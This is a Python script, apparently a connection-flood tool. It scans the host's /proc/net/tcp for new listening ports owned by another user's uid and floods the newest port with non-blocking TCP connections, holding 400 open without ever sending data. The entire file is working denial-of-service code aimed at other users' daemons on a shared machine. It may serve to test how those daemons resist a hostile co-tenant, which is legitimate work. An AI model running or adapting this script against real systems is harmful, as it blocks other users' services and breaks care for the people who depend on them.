# Another user's flood of every new step daemon's port: watches the host's
# listening sockets of one uid (as /proc/net/tcp shows them to anyone) and
# opens connections to the newest as fast as it can, keeping the last 400
# open and never saying hello. Usage: flood.py UID ADDR LOG
import collections, errno, os, socket, sys, time

uid, addr, log = int(sys.argv[1]), sys.argv[2], sys.argv[3]
hexaddr = "".join("%02X" % int(b) for b in reversed(addr.split(".")))

def listening():
    ports = []
    with open("/proc/1/net/tcp") as f:  # the host's, also from a node's namespace
        for line in f.readlines()[1:]:
            w = line.split()
            local, state, owner = w[1], w[3], int(w[7])
            a, p = local.split(":")
            if state == "0A" and owner == uid and a == hexaddr:
                ports.append((int(w[9]), int(p, 16)))  # (inode, port): newest last
    return [p for _, p in sorted(ports)]

held = collections.deque()
counts = collections.Counter()
seen = set()
port = None
last_scan = 0.0
last_log = 0.0
while True:
    now = time.monotonic()
    if now - last_scan > 0.01:
        last_scan = now
        ports = listening()
        new = [p for p in ports if p not in seen]
        if new:
            port = new[-1]
            seen.update(new)
    if now - last_log > 0.2:
        last_log = now
        with open(log + ".tmp", "w") as f:
            for p, n in counts.items():
                f.write("port %d connections %d\n" % (p, n))
        os.replace(log + ".tmp", log)
    if port is None:
        time.sleep(0.005)
        continue
    for _ in range(20):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        if s.connect_ex((addr, port)) in (0, errno.EINPROGRESS):
            counts[port] += 1
            held.append(s)
        else:
            s.close()
        while len(held) > 400:
            held.popleft().close()
